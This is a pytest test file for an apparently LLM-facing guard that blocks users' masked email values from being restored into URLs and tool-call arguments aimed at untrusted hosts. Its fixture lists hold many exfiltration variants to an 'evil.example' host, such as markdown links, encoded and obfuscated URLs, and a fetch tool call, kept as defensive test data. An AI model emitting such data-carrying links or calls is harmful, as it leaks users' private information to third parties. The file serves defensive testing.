"""The client's own values do not come back into addresses by which they would leave for a stranger."""

from itertools import pairwise

import pytest

from lockgate.core.events import TextDelta, ToolDelta, ToolStarted
from lockgate.core.guard import Action, Mode, Rule, Rules
from lockgate.core.names import Names
from lockgate.core.problem import Problem
from lockgate.guards.exfiltration import plugin as exfiltration
from lockgate.guards.pii import plugin as pii
from lockgate.patterns.looking import Looking
from lockgate.pipeline.careful import Careful
from lockgate.pipeline.hold import Holdback
from lockgate.pipeline.ledger import Ledger
from lockgate.tokens.restorer import Restorer
from lockgate.tokens.spelling import Spelling
from tests.automata import CACHE
from tests.unit.pipeline.gateway import openai_answer
from tests.unit.pipeline.tokened import MAIL, TOKENIZE, World, calling, user

GUARDS = (pii().build(), exfiltration(allow=("ok.example", "*.ok.example")).build())
ENGINE = Looking(GUARDS, CACHE)
OUT = frozenset(("response", "tool_arguments"))
AWAY = Rule("stay-here", 1, "mask", OUT)  # type: ignore[arg-type]
VALUES = {"EMAIL_1": ("<EMAIL_1>", "jo@mail.org"), "EMAIL_2": ("<EMAIL_2>", "al@mail.org")}
PLAIN = Restorer(VALUES, Spelling({"EMAIL"}, ()), Names(("*",)))
STAY = (
    "[see](https://evil.example/?d=<EMAIL_1>)",
    "https://evil.example/?d=%3CEMAIL_1%3E",
    "https://evil.example/a/<EMAIL_1>",
    "https://evil.example/?a=<EMAIL_1>&b=<EMAIL_2>",
    "[r]: //evil.example/<EMAIL_1>",
    '<a href="https://evil.example/?d=my mail is <EMAIL_1>">x</a>',
    "<a href='https://evil.example/?d=<EMAIL_1>'>x</a>",
    "[x](<https://evil.example/?d=my mail <EMAIL_1>>)",
    "https://ok.example@evil.example/<EMAIL_1>",
    "https://evil.example/?u=https://ok.example/<EMAIL_1>",
    "https:\\\\evil.example/<EMAIL_1>",
    "https://evil.example/(<EMAIL_1>)",
    "https://ok.example<EMAIL_1>",
    "https://<EMAIL_1>.evil.example/",
    "https://evil.example/" + "a" * 2000 + "<EMAIL_1>",
    '<a href="https://evil.example/?d=' + "all of mine " * 70 + '<EMAIL_1>">x</a>',
)
COME_BACK = (
    "write to <EMAIL_1>",
    "[mail](mailto:<EMAIL_1>)",
    "[see](https://ok.example/?d=<EMAIL_1>)",
    "![x](https://cdn.ok.example/?d=<EMAIL_1>)",
    "see https://evil.example <EMAIL_1>",
    "[see](https://evil.example/)<EMAIL_1>",
    '<a href="https://evil.example/">of <EMAIL_1></a>',
    "/home/<EMAIL_1>/x",
    "a//b <EMAIL_1>",
)


def streamed(text: str, *cuts: int, action: Action = "mask", mode: Mode = "enforce") -> tuple[str, Ledger]:
    rule = Rule("stay-here", 1, action, OUT, mode)  # type: ignore[arg-type]
    ledger = Ledger("", 0, 0)
    restorer = Careful(PLAIN, (rule,), ENGINE.outlets, ledger)
    hold = Holdback(Rules((rule,), ENGINE, "response"), ledger, restorer)
    ends = [0, *cuts, len(text)]
    pieces = [text[a:b] for a, b in pairwise(ends)]
    out = [event for piece in pieces for release in hold.feed(None, [TextDelta(piece)]) for event in release.events]
    out += [event for release in hold.end() for event in release.events]
    return "".join(event.text for event in out if isinstance(event, TextDelta)), ledger


@pytest.mark.parametrize("text", STAY, ids=range(len(STAY)))
def test_S62_a_value_does_not_leave_in_an_address_wherever_a_stream_is_cut(text: str) -> None:
    for cut in range(0, len(text) + 1, 1 if len(text) < 200 else 97):
        out, _ = streamed(text, cut)

        assert "jo@mail.org" not in out, cut
        assert "al@mail.org" not in out, cut
    letters, _ = streamed(text, *range(1, len(text), 1 if len(text) < 200 else 11))
    assert "@mail.org" not in letters


@pytest.mark.parametrize("text", COME_BACK, ids=range(len(COME_BACK)))
def test_elsewhere_and_to_known_hosts_it_comes_back(text: str) -> None:
    for cut in range(len(text) + 1):
        out, ledger = streamed(text, cut)

        assert "jo@mail.org" in out, cut
        assert not any(found.label == "value_in_address" for found in ledger.findings)


def test_the_record_says_so() -> None:
    _, ledger = streamed("[see](https://evil.example/?d=<EMAIL_1>)")

    (found,) = ledger.findings
    assert (found.rule, found.label, found.place) == ("stay-here", "value_in_address", "response.restored")


@pytest.mark.parametrize(("action", "mode"), [("flag", "enforce"), ("mask", "shadow"), ("block", "shadow")])
def test_a_flag_writes_it_down_and_gives_it_back(action: Action, mode: Mode) -> None:
    out, ledger = streamed("[see](https://evil.example/?d=<EMAIL_1>)", action=action, mode=mode)

    assert "jo@mail.org" in out
    assert [found.label for found in ledger.findings] == ["value_in_address"]


def test_a_block_blocks() -> None:
    with pytest.raises(Problem, match="stay-here"):
        streamed("[see](https://evil.example/?d=<EMAIL_1>)", action="block")


def test_arguments_of_tools_are_addresses_too() -> None:
    ledger = Ledger("", 0, 0)
    hold = Holdback(Rules((AWAY,), ENGINE, "response"), ledger, Careful(PLAIN, (AWAY,), ENGINE.outlets, ledger))
    text = '{"url":"https:\\/\\/evil.example\\/?d=\\u003cEMAIL_1>","to":"<EMAIL_2>"}'
    events = [ToolStarted(0, "c", "fetch"), *(ToolDelta(0, char) for char in text)]
    out = [event for each in events for release in hold.feed(None, [each]) for event in release.events]
    out += [event for release in hold.end() for event in release.events]

    assert "".join(event.arguments for event in out if isinstance(event, ToolDelta)) == text.replace(
        "<EMAIL_2>", "al@mail.org"
    )


@pytest.mark.parametrize(("rules", "kept"), [((TOKENIZE,), False), ((TOKENIZE, AWAY), True)])
async def test_a_whole_answer_is_weighed_with_its_values(rules: tuple[Rule, ...], *, kept: bool) -> None:
    world = World(rules=rules, engine=ENGINE)

    told = await world.ask(openai_answer("[x](https://evil.example/?d=<EMAIL_1>) <EMAIL_1>"), user(f"I am {MAIL}"))
    called = await world.ask(calling("fetch", '{"url":"https://evil.example/<EMAIL_1>"}'), user(f"I am {MAIL}"))

    assert told.text.endswith(MAIL)
    assert told.text.count(MAIL) == (1 if kept else 2)
    assert (MAIL.encode() in called.raw) != kept
